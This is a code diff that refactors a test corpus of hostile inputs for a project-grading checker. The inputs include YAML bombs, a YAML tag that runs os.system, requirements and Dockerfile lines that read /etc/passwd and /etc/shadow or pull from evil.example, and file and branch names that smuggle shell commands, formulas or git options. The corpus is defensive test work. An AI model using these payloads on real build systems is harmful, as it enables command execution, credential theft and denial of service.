@@ -8,7 +8,7 @@ import struct
 import zlib
 
 from checker.model import Blocked, Failed, Passed, ToDo
-from tests.hostile.corpus.model import MARK, Expected, Hostile, fails, passes
+from tests.hostile.corpus.model import MARK, Expected, fails, hostile, passes
 from tests.mutants.model import Remove, Shell, Write
 
 _ALIASES = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
@@ -47,168 +47,152 @@ _PICTURES = json.dumps(
 )  # fmt: skip
 _ANY = (Passed, Failed, ToDo)
 
-CORPUS: tuple[Hostile, ...] = (
-    Hostile(
-        name="a configuration that grows to 10 GB",
+CORPUS = (
+    hostile(
+        "a configuration that grows to 10 GB",
+        Shell(f"cat > aliases <<'EOF'\n{_ALIASES}EOF\ncat aliases >> config.yaml; rm aliases"),
         traps=(28,),
         base="2.1",
-        edits=(Shell(f"cat > aliases <<'EOF'\n{_ALIASES}EOF\ncat aliases >> config.yaml; rm aliases"),),
         expected=(Expected(check="config-file", verdict=_ANY), Expected(check="config-followed", verdict=_ANY)),
         seconds=20,
     ),
-    Hostile(
-        name="a configuration that grows by merging",
+    hostile(
+        "a configuration that grows by merging",
+        Write("config.yaml", _MERGES),
         traps=(28,),
         base="2.1",
-        edits=(Write("config.yaml", _MERGES),),
         expected=(fails("main-runs"), Expected(check="config-file", verdict=_ANY)),
         seconds=10,
     ),
-    Hostile(
-        name="an environment that grows and builds objects",
+    hostile(
+        "an environment that grows and builds objects",
+        Write(
+            "environment.yml",
+            f"name: !!python/object/apply:os.system ['touch /tmp/{MARK}']\n{_ALIASES}dependencies: *m\n",
+        ),
         traps=(28,),
         base="2.2",
-        edits=(
-            Write(
-                "environment.yml",
-                f"name: !!python/object/apply:os.system ['touch /tmp/{MARK}']\n{_ALIASES}dependencies: *m\n",
-            ),
-        ),
         expected=(fails("environment-file"), Expected(check="environment-minimal", verdict=(Blocked,))),
         seconds=20,
     ),
-    Hostile(
-        name="an environment of 5,000 packages",
+    hostile(
+        "an environment of 5,000 packages",
+        Shell("python3 -c \"print('\\n'.join(f'evil-package-{n}==1.{n}' for n in range(5000)))\" >> requirements.txt"),
         traps=(28,),
         base="2.2",
-        edits=(
-            Shell(
-                "python3 -c \"print('\\n'.join(f'evil-package-{n}==1.{n}' for n in range(5000)))\" >> requirements.txt"
-            ),
-        ),
         expected=(passes("environment-complete"),),
         seconds=30,
     ),
-    Hostile(
-        name="requirements that include themselves and the password file",
+    hostile(
+        "requirements that include themselves and the password file",
+        Shell(
+            "printf '%s\\n' '-r requirements.txt' '-r /etc/passwd' '-r ../../../../etc/shadow' '-c @HOME@/grades.csv' "
+            "'-e git+ext::sh -c touch%20x' '--index-url=https://evil.example' 'x @ file:///etc/passwd' "
+            "'a[b,c,d]>=1,<2;python_version<\"$(id)\"' >> requirements.txt"
+        ),
         traps=(28, 13),
         base="2.2",
-        edits=(
-            Shell(
-                "printf '%s\\n' '-r requirements.txt' '-r /etc/passwd' '-r ../../../../etc/shadow' '-c @HOME@/grades.csv' "
-                "'-e git+ext::sh -c touch%20x' '--index-url=https://evil.example' 'x @ file:///etc/passwd' "
-                "'a[b,c,d]>=1,<2;python_version<\"$(id)\"' >> requirements.txt"
-            ),
-        ),
-        expected=(Expected(check="environment-complete", verdict=(Passed, Failed)),),
+        expected=(Expected(check="environment-complete", verdict=(Passed, Failed, Blocked)),),
         never_says=("root:x:0",),
     ),
-    Hostile(
-        name="pictures that are bombs in a notebook",
+    hostile(
+        "pictures that are bombs in a notebook",
+        Write("notebooks/titanic.ipynb", _PICTURES),
         traps=(28,),
-        edits=(Write("notebooks/titanic.ipynb", _PICTURES),),
         expected=(passes("notebook-runs"),),
         seconds=20,
     ),
-    Hostile(
-        name="a notebook of 500 MB",
+    hostile(
+        "a notebook of 500 MB",
+        Shell("truncate -s 500M notebooks/titanic.ipynb"),
         traps=(28,),
-        edits=(Shell("truncate -s 500M notebooks/titanic.ipynb"),),
         expected=(fails("notebook-runs", "too large"),),
         seconds=5,
     ),
-    Hostile(
-        name="pipes in the place of files",
+    hostile(
+        "pipes in the place of files",
+        *(Remove(path) for path in ("config.yaml", "requirements.txt", "notebooks/titanic.ipynb", "Dockerfile")),
+        Shell("mkfifo config.yaml requirements.txt notebooks/titanic.ipynb Dockerfile data.csv .checker.yml.pipe"),
+        Shell("rm -f .checker.yml; mkfifo .checker.yml src/pipe.py"),
         base="2.3",
-        edits=(
-            *(Remove(path) for path in ("config.yaml", "requirements.txt", "notebooks/titanic.ipynb", "Dockerfile")),
-            Shell("mkfifo config.yaml requirements.txt notebooks/titanic.ipynb Dockerfile data.csv .checker.yml.pipe"),
-            Shell("rm -f .checker.yml; mkfifo .checker.yml src/pipe.py"),
-        ),
-        expected=(fails("main-runs"),),
+        expected=(fails("config-file"),),
         whole=True,
         seconds=10,
         within=120,
     ),
-    Hostile(
-        name="ignore rules that take for ever",
+    hostile(
+        "ignore rules that take for ever",
+        Shell(
+            "python3 -c \"print('\\n'.join(['*a' * 30 + 'b', '**/' * 40 + '*' * 40 + 'b', '[' * 1000, '\\\\\\\\' * 999]"
+            " + [f'/x{n}*y*z/**' for n in range(20000)]))\" >> .gitignore"
+        ),
         traps=(28,),
         base="1.8",
-        edits=(
-            Shell(
-                "python3 -c \"print('\\n'.join(['*a' * 30 + 'b', '**/' * 40 + '*' * 40 + 'b', '[' * 1000, '\\\\\\\\' * 999]"
-                " + [f'/x{n}*y*z/**' for n in range(20000)]))\" >> .gitignore"
-            ),
-        ),
         expected=(Expected(check="gitignore-python", verdict=_ANY), Expected(check="clean-tree", verdict=_ANY)),
         within=60,
     ),
-    Hostile(
-        name="names that are options, commands and pictures of others",
-        traps=(29, 22),
-        edits=(
-            *(
-                Write(name, "x = 1\n")
-                for name in (
-                    "-rf.py",
-                    "$(touch x).py",
-                    "`id`.py",
-                    "a\nb.py",
-                    "\u202egnp.py",
-                    "CON.py",
-                    "n" * 250 + ".py",
-                    "=cmd|' /C calc'!A1.py",
-                    "::error::x.py",
-                    "<script>.py",
-                    "\x1b[2J.py",
-                    "--help.py",
-                    "a;b&c|d.py",
-                    "src/--rcfile=evil.py",
-                    "src/%s%n{0}.py",
-                    "src/'\".py",
-                    "src/src/src.py",
-                    "data/raw/=1+1.csv",
-                )
-            ),
-            Shell("touch \"$(printf 'caf\\351.py')\" \"$(printf 'src/\\377\\376.py')\""),
-            Shell("git add -A && git commit -q -m 'Names'"),
-            Shell("git checkout -q -b '=cmd|calc!A1'"),
-            Shell("git update-ref 'refs/heads/--upload-pack=touch-x' HEAD"),
-            Shell(
-                "git -c user.name='=HYPERLINK(1)::error::x' -c user.email='<script>@x' commit -q --allow-empty "
-                "--file=<(python3 -c \"print('\\x1b[2J::error::x' * 700000)\")"
-            ),
+    hostile(
+        "names that are options, commands and pictures of others",
+        *(
+            Write(name, "x = 1\n")
+            for name in (
+                "-rf.py",
+                "$(touch x).py",
+                "`id`.py",
+                "a\nb.py",
+                "\u202egnp.py",
+                "CON.py",
+                "n" * 250 + ".py",
+                "=cmd|' /C calc'!A1.py",
+                "::error::x.py",
+                "<script>.py",
+                "\x1b[2J.py",
+                "--help.py",
+                "a;b&c|d.py",
+                "src/--rcfile=evil.py",
+                "src/%s%n{0}.py",
+                "src/'\".py",
+                "src/src/src.py",
+                "data/raw/=1+1.csv",
+            )
         ),
+        Shell("touch \"$(printf 'caf\\351.py')\" \"$(printf 'src/\\377\\376.py')\""),
+        Shell("git add -A && git commit -q -m 'Names'"),
+        Shell("git checkout -q -b '=cmd|calc!A1'"),
+        Shell("git update-ref 'refs/heads/--upload-pack=touch-x' HEAD"),
+        Shell(
+            "git -c user.name='=HYPERLINK(1)::error::x' -c user.email='<script>@x' commit -q --allow-empty "
+            "--file=<(python3 -c \"print('\\x1b[2J::error::x' * 700000)\")"
+        ),
+        traps=(29, 22),
         expected=(passes("main-runs"), passes("branch")),
         never_says=("\x1b[2J", "\n::error"),
         whole=True,
         seconds=30,
         within=250,
     ),
-    Hostile(
-        name="a Dockerfile that asks for everything",
+    hostile(
+        "a Dockerfile that asks for everything",
+        Write(
+            "Dockerfile",
+            "# syntax=evil.example/frontend:latest\n"
+            "FROM registry.internal.grader:5000/base AS a\n"
+            "RUN --mount=type=bind,source=/,target=/host --security=insecure --network=host cat /host/etc/shadow\n"
+            "RUN --mount=type=cache,id=other,target=/cache echo evil > /cache/x\n"
+            "RUN --mount=type=secret,id=x --mount=type=ssh true\n"
+            "RUN while true; do :; done && dd if=/dev/zero of=/x bs=1G count=50\n"
+            "COPY --from=evil/image:latest /etc/shadow /\n"
+            "ADD https://evil.example/x /\n"
+            "FROM a\nONBUILD RUN evil\nHEALTHCHECK CMD evil\n"
+            + "RUN a \\\n" * 20_000
+            + "b\n"
+            + "ENV "
+            + "A=$A$A$A$A$A$A$A$A " * 1000
+            + "\n"
+            'CMD ["python", "main.py"' + ', "x"' * 10_000 + "]\n",
+        ),
         traps=(32,),
         base="2.3",
-        edits=(
-            Write(
-                "Dockerfile",
-                "# syntax=evil.example/frontend:latest\n"
-                "FROM registry.internal.grader:5000/base AS a\n"
-                "RUN --mount=type=bind,source=/,target=/host --security=insecure --network=host cat /host/etc/shadow\n"
-                "RUN --mount=type=cache,id=other,target=/cache echo evil > /cache/x\n"
-                "RUN --mount=type=secret,id=x --mount=type=ssh true\n"
-                "RUN while true; do :; done && dd if=/dev/zero of=/x bs=1G count=50\n"
-                "COPY --from=evil/image:latest /etc/shadow /\n"
-                "ADD https://evil.example/x /\n"
-                "FROM a\nONBUILD RUN evil\nHEALTHCHECK CMD evil\n"
-                + "RUN a \\\n" * 20_000
-                + "b\n"
-                + "ENV "
-                + "A=$A$A$A$A$A$A$A$A " * 1000
-                + "\n"
-                'CMD ["python", "main.py"' + ', "x"' * 10_000 + "]\n",
-            ),
-        ),
         expected=(fails("dockerfile"),),
         seconds=10,
     ),
